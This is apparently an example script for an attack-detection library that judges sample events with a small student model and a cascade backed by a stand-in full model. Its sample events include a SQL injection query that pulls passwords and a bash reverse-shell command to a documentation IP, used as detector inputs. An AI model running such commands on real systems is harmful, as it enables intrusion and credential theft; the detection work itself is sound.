"""Judge events in your own program: a student alone, and a cascade that asks a full model where the student is unsure.

    python examples/judge_in_python.py [BUNDLE]

Needs nothing but the base install and a bundle, such as that of compress_and_check.py or `make demo`.
"""

from __future__ import annotations

import sys
from collections.abc import Sequence
from pathlib import Path

import numpy as np

import overproof
from overproof.bundle.manifest import open_bundle
from overproof.bundle.scores import Floats
from overproof.inference.cascade import Full
from overproof.jobs.deploy_config import CascadeConfig
from overproof.jobs.open_cascade import open_cascade

EVENTS = (
    "HTTP GET /index.html host=shop.example.com",
    "HTTP GET /item?id=1' union select password from users-- host=shop.example.com",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
)


def main(path: Path) -> None:
    """Judge the events both ways."""
    student = overproof.open(path)  # every file's hash is verified first
    print("the student alone")
    for verdict in student.judge(EVENTS):
        print(f"  {verdict.label:12} attack {verdict.attack:.3f}")

    def ask(texts: Sequence[str]) -> Floats:
        """Answer for the full model: probabilities of shape (texts, classes); here it always says the last class."""
        return np.tile(np.eye(len(student.classes), dtype=np.float32)[-1], (len(texts), 1))

    config = CascadeConfig(full=Full(student.classes, ask, "a stand-in"), max_escalations="100%")
    cascade = open_cascade(open_bundle(path), config)
    print("in a cascade")
    for cascaded in cascade.judge(list(EVENTS)):
        print(f"  {cascaded['label']:12} {cascaded['status']} by {cascaded['decided_by']}: {cascaded['reason']}")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else "out/examples/bundle"))
